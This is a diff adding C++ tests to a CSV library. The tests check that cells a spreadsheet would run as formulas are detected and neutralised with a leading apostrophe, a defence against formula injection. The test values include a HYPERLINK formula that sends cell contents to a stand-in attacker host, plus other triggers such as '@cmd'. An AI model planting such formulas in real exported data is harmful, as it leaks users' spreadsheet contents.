@@ -177,3 +177,46 @@ TEST_CASE("seek continues at a record another reader reached", "[csv]")
     CHECK(reader.next(f, r) == csv_status::end);
     CHECK(r.ok());
 }
+
+TEST_CASE("a cell a spreadsheet would run as a formula is recognised", "[csv][formula]")
+{
+    for (std::string_view cell : {"=1+1", "+SUM(1+1)", "-2+3", "@cmd", "\t=1", "\r=1",
+                                  "  =HYPERLINK(\"x\")", "\"=1+1", " \" @cmd"})
+        CHECK(io::starts_formula(cell));
+    for (std::string_view cell : {"", "   ", "Konveksi Maju", "1+1", "'=1+1", "'+6281234567890",
+                                  "a=b", "2024-03-01", "Rp 1,5 miliar"})
+        CHECK_FALSE(io::starts_formula(cell));
+}
+
+TEST_CASE("cells are written so that no formula runs and each reads back", "[csv][formula]")
+{
+    // Every trigger the OWASP page names, also after spaces and quotes.
+    std::vector<std::string> const values = {
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "+SUM(1+1)", "-2+3", "@cmd",
+        "\tTab", "\r=1", "  =1+1", "\"=1+1\"", "plain", "a, b", "say \"hi\"", "two\nlines",
+        " spaced ", "", "Warung Ñoño ☕"};
+    std::string text;
+    for (std::size_t i = 0; i < values.size(); ++i) {
+        if (i) text += ',';
+        io::append_csv_cell(text, values[i]);
+    }
+    text += '\n';
+    CHECK(io::csv_cell("=1+1") == "\"'=1+1\"");
+    CHECK(io::csv_cell("-2+3", ';') == "\"'-2+3\"");
+    CHECK(io::csv_cell("plain") == "plain");
+    CHECK(io::csv_cell("a;b", ';') == "\"a;b\"");
+    CHECK(io::csv_cell("a;b", ',') == "a;b");
+    CHECK(io::csv_cell("'01111") == "'01111"); // marked as text by its writer already
+    report r;
+    auto const rows = read_all(text, r);
+    CHECK(r.ok());
+    REQUIRE(rows.size() == 1);
+    REQUIRE(rows[0].size() == values.size());
+    for (std::size_t i = 0; i < values.size(); ++i) {
+        std::string cell = rows[0][i];
+        CHECK_FALSE(io::starts_formula(cell)); // as a spreadsheet sees it
+        // The import takes one leading apostrophe off: the value again.
+        if (!cell.empty() && cell[0] == '\'') cell.erase(0, 1);
+        CHECK(cell == values[i]);
+    }
+}
